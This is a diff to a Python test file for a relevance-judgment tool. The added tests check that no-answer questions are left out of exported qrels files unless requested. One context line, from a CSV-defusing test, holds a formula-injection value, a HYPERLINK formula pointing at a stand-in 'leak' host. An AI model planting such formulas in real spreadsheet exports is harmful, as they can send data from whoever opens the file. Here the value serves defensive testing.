@@ -227,3 +227,40 @@ def test_no_csv_cell_is_a_live_spreadsheet_formula(db, tmp_path):
     assert '=1+1 0 =HYPERLINK("http://x.example/?leak") 2' in trec.paths[0].read_text(encoding="utf-8")
     # numbers stay numbers
     assert export.defuse_formulas(pd.DataFrame({"x": [-0.5, 1.0]})).x.tolist() == [-0.5, 1.0]
+
+
+def test_no_answer_questions_are_left_out_of_exported_qrels_unless_asked(judged, tmp_path, db_path):
+    """A question whose final judgment is "no citable evidence" is left out of the means;
+    its all-zero rows in an exported qrels file would make `trec_eval -c` average it in as
+    0 (MRR 0.81 where the dashboard says 0.90). By default the qrels leave it out and the
+    file beside lists it; asked for, its rows are kept, and the summary says which."""
+    for pid in ("p08", "p03"):
+        for user in ("ann", "bob"):
+            judging.grade(judged, user, "q3", pid, 0)
+    for fmt in ("trec", "beir", "csv"):
+        out = tmp_path / f"qrels.{fmt}"
+        summary = export.write_qrels(judged, out, fmt)
+        text = out.read_text(encoding="utf-8")
+        assert "q3" not in text and "left out of the qrels" in summary.message()
+        assert "q3" in summary.paths[1].read_text(encoding="utf-8")
+        kept = export.write_qrels(judged, tmp_path / f"kept.{fmt}", fmt, include_no_answer=True)
+        assert "q3" in (tmp_path / f"kept.{fmt}").read_text(encoding="utf-8")
+        assert "also as rows" in kept.message()
+    page = {d.key: d for d in export.downloads(judged, "trec")}
+    assert b"q3" not in page["qrels"].build() and b"q3" in page["no_answer"].build()
+    assert b"q3 0 p08 0" in {d.key: d for d in export.downloads(judged, "trec", include_no_answer=True)}[
+        "qrels"].build()
+
+
+def test_cli_include_no_answer_only_for_qrels(judged, tmp_path):
+    from reljudge.cli import main
+    if judged.backend != "duckdb":
+        pytest.skip("the CLI part runs on the file")
+    judging.grade(judged, "ann", "q3", "p08", 0)
+    judged.close()
+    db = str(judged.path)
+    assert main(["--db", db, "export", "qrels", "-o", str(tmp_path / "a.txt")]) == 0
+    assert "q3" not in (tmp_path / "a.txt").read_text(encoding="utf-8")
+    assert main(["--db", db, "export", "qrels", "--include-no-answer", "-o", str(tmp_path / "b.txt")]) == 0
+    assert "q3 0 p08 0" in (tmp_path / "b.txt").read_text(encoding="utf-8")
+    assert main(["--db", db, "export", "judgments", "--include-no-answer", "-o", str(tmp_path / "c")]) == 2
